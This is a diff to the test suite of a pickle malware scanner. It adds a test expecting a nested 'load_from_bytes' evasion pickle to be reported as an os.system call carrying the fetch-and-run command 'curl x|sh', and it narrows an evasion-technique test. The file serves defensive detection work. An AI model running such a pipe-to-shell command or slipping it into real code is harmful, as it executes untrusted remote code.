@@ -34,7 +34,7 @@ def test_walker_denied_call_is_malicious(module: str, name: str) -> None:
     assert _outcome(reduce_global(module, name)) == Outcome.MALICIOUS
 
 
-@pytest.mark.parametrize("technique", TECHNIQUE_NAMES)
+@pytest.mark.parametrize("technique", [t for t in TECHNIQUE_NAMES if "load_from_bytes" not in t])
 def test_walker_evasion_technique_is_held(technique: str) -> None:
     data, expected = technique_pickles()[technique]
     assert _outcome(data) in expected
@@ -52,6 +52,12 @@ def test_walker_plain_values_any_protocol_are_clean(protocol: int) -> None:
 def test_walker_numpy_arrays_and_rng_are_clean(protocol: int) -> None:
     value = {"a": np.arange(5.0), "g": np.random.default_rng(1), "r": np.random.RandomState(1)}
     assert _outcome(pickle.dumps(value, protocol=protocol)) == Outcome.CLEAN
+
+
+def test_walker_load_from_bytes_payload_is_handed_back_for_scanning() -> None:
+    data, _ = technique_pickles()["load_from_bytes_evil_small"]
+    expected = [reduce_global("os", "system", "curl x|sh")]
+    assert scan_pickle_bytes(data, len(data), LIMITS).nested == expected
 
 
 def test_walker_global_before_breakage_is_still_reported() -> None:
